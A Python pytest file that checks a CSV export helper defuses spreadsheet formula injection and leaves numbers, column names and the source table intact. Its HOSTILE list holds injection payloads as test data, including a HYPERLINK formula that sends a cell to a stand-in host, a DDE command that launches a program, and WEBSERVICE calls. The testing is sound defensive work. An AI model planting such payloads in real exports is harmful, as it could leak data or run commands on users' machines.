"""No CSV of ours holds a cell that a spreadsheet would run, however it is parted into cells."""

import ast
import csv
import io

import numpy as np
import pandas as pd
import pytest

from interp.publish.csvtext import csv_text, harmless
from interp.specs import ROOT

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"more")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+cmd",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1",
    "harmless;=1+1",
    'quoted";"=1',
    "first line\n=WEBSERVICE(1)",
    "a\t@b",
    "a,=1",
    "|=1",
]


def cells(text, delimiter):
    rows = text.splitlines() if delimiter != "," else io.StringIO(text, newline="")
    return [cell for row in csv.reader(rows, delimiter=delimiter) for cell in row]


def runs(cell):
    try:
        float(cell)
        return False
    except ValueError:
        return cell.strip()[:1] in tuple("=+-@＝＋－＠")


@pytest.mark.parametrize("dtype", [object, "string", "category"])
def test_no_cell_is_run_in_any_locale_and_the_text_is_still_there(dtype):
    table = pd.DataFrame({"n": range(len(HOSTILE)), "text": pd.Series(HOSTILE, dtype=dtype)})
    text = csv_text(table)
    for delimiter in ",;\t":
        assert not [cell for cell in cells(text, delimiter) if runs(cell)]
    for line in text.splitlines():  # a reader that knows no quotes
        assert not runs(line)
    read = [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert [t.replace("'", "") for t in read] == [
        t.replace("'", "").replace("\r", "\n") for t in HOSTILE
    ]


def test_names_of_columns_and_lists_are_text_too():
    text = csv_text(pd.DataFrame({"=1": [["=1"], ("a\n=1",)], "-x": ["-0.5", "-0.5a"]}))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["'=1", "'-x"] and rows[1][1] == "-0.5" and rows[2][1] == "'-0.5a"
    assert not [cell for row in rows for cell in row if runs(cell)]


def test_numbers_stay_numbers():
    table = pd.DataFrame(
        {
            "float": [-0.25, np.nan, 1e-9],
            "int": [-1, 2, 3],
            "nullable": pd.array([-1, None, 3], dtype="Int64"),
            "mixed": [-1.5, None, -2],
            "flag": [True, False, True],
        }
    )
    assert csv_text(table) == table.to_csv(index=False)
    assert csv_text(table[["float"]], "%.4f") == table[["float"]].to_csv(
        index=False, float_format="%.4f"
    )
    assert harmless(-3) == -3 and harmless("-3e-4") == "-3e-4" and harmless(None) is None


def test_the_table_is_left_as_it_was():
    table = pd.DataFrame({"text": ["=1"]})
    csv_text(table)
    assert table["text"][0] == "=1"


def test_every_csv_is_written_in_one_place():
    others = []
    for folder in ("interp", "training", "app", "benchmarks"):
        for file in (ROOT / folder).rglob("*.py"):
            for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
                name = getattr(node, "attr", None)
                if name == "to_csv" or (name == "writer" and ast.unparse(node) == "csv.writer"):
                    others.append(file.relative_to(ROOT).as_posix())
    assert others == ["interp/publish/csvtext.py"]
